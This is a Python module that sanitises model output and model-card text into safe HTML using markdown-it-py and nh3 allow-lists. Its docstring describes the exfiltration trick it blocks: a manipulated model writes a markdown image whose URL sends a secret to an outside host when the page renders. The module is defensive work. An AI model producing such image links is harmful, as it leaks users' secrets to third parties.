"""Markdown for text nobody on the platform wrote: model output and model-card fields.

Rendered by markdown-it-py (CommonMark plus tables and strikethrough) with raw HTML off, so a
``<script>`` in the text comes out as text; then sanitised by nh3 (ammonia) to an allow-list
of tags and attributes, with links only to ``http``, ``https`` and ``mailto`` and marked
``rel="noopener noreferrer nofollow"``. No images (a model talked into writing
``![](https://elsewhere/?q=<secret>)`` would send the secret on render) and no style attributes
(the page's Content-Security-Policy refuses them anyway). Either layer alone would stop the known tricks; both
are kept because model output is adversarial by assumption.
"""

from __future__ import annotations

import nh3
from markdown_it import MarkdownIt

ALLOWED_TAGS = {
    "p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "strong", "em", "del", "s", "code", "pre",
    "blockquote", "ul", "ol", "li", "a", "table", "thead", "tbody", "tr", "th", "td",
}
ALLOWED_ATTRIBUTES = {
    "a": {"href", "title"},
    "code": {"class"},
    "ol": {"start"},
}
URL_SCHEMES = {"http", "https", "mailto"}

_renderer = MarkdownIt("commonmark", {"html": False, "linkify": False, "typographer": False}).enable(
    ["table", "strikethrough"])


def render_markdown(text: str) -> str:
    """Safe HTML for ``text`` (markdown): never a script, an event handler or a non-http(s) link."""
    html = _renderer.render(text or "")
    return nh3.clean(
        html,
        tags=ALLOWED_TAGS,
        attributes=ALLOWED_ATTRIBUTES,
        url_schemes=URL_SCHEMES,
        link_rel="noopener noreferrer nofollow",
        strip_comments=True,
    )
